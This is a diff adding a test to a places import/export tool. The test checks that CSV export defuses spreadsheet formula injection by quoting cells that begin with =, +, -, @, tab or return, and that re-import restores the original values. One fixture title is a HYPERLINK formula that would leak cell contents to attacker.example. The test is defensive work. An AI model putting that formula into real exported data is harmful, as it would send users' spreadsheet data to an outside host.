@@ -4,6 +4,7 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { after, before, describe, test } from 'node:test'
+import { parse } from 'csv-parse/sync'
 import { zipSync } from 'fflate'
 import { createTestDatabase, databaseKinds, type TestDatabase } from '../support/databases'
 
@@ -156,6 +157,54 @@ for (const kind of databaseKinds) {
         assert.deepEqual([cafe?.properties.title, cafe?.properties.content, cafe?.properties.categories], ['Café & bar', '<p>Good <b>coffee</b></p>', ['Food']])
       } finally {
         await copy.drop()
+      }
+    })
+
+    test('CSV: text a spreadsheet would run is exported behind a quote, numbers as they are, and imported back as it was', async () => {
+      const formulas = {
+        type: 'FeatureCollection',
+        features: [
+          feature([-70.6, -33.45], {
+            title: '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")',
+            content: '+1 555 0100',
+            address: '@SUM(A1:A9)',
+            slug: 'formula',
+            date: '2022-02-02T00:00:00.000Z',
+            categories: ['-Minus > Sub', '=Equals'],
+          }),
+          // A title that begins with a quote before a formula character is one a spreadsheet shows as text already.
+          feature([151.2, -33.8], {
+            title: "'=quoted already",
+            content: '\tindented\r\nthen a return',
+            address: "''-2",
+            slug: 'quoted',
+            date: '2022-02-03T00:00:00.000Z',
+          }),
+          feature(null, { title: '-5 degrees', content: '\ra return first', slug: 'minus', date: '2022-02-04T00:00:00.000Z' }),
+        ],
+      }
+      const [source, copy] = [await createTestDatabase(kind), await createTestDatabase(kind)]
+      try {
+        ok(places(source.url, ...admin))
+        ok(places(source.url, 'import', file(`formulas-${kind}.geojson`, JSON.stringify(formulas))))
+        const csv = ok(places(source.url, 'export', '--format', 'csv'))
+        const [header, ...rows] = parse(csv)
+        const numbers = new Set(['id', 'latitude', 'longitude'].map((name) => header!.indexOf(name)))
+        for (const row of rows) {
+          for (const [index, value] of row.entries()) {
+            if (!numbers.has(index)) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${header![index]}: ${JSON.stringify(value)}`)
+          }
+        }
+        const cell = (slug: string, name: string) => rows.find((row) => row[header!.indexOf('slug')] === slug)![header!.indexOf(name)]
+        assert.equal(cell('formula', 'title'), `'=HYPERLINK("http://attacker.example/?leak="&A2,"Open")`)
+        assert.deepEqual([cell('formula', 'latitude'), cell('formula', 'longitude')], ['-33.45', '-70.6'], 'numbers are not escaped')
+        assert.equal(cell('quoted', 'title'), "''=quoted already")
+
+        ok(places(copy.url, ...admin))
+        ok(places(copy.url, 'import', file(`formulas-${kind}.csv`, csv)))
+        assert.deepEqual(exported(copy.url).sort(byTitle).map(HELD.csv!), exported(source.url).sort(byTitle).map(HELD.csv!))
+      } finally {
+        await Promise.all([source.drop(), copy.drop()])
       }
     })
 
